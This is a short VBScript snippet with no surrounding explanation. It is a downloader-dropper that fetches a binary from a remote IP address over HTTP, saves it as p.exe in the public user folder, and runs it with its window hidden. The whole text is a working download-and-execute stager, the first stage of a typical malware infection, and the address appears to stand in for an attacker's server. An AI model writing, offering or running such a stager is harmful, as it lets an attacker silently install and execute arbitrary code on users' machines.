Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://192.0.2.50/p.bin", False
x.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1 : s.Open : s.Write x.responseBody
s.SaveToFile "C:\Users\Public\p.exe", 2
CreateObject("WScript.Shell").Run "C:\Users\Public\p.exe", 0
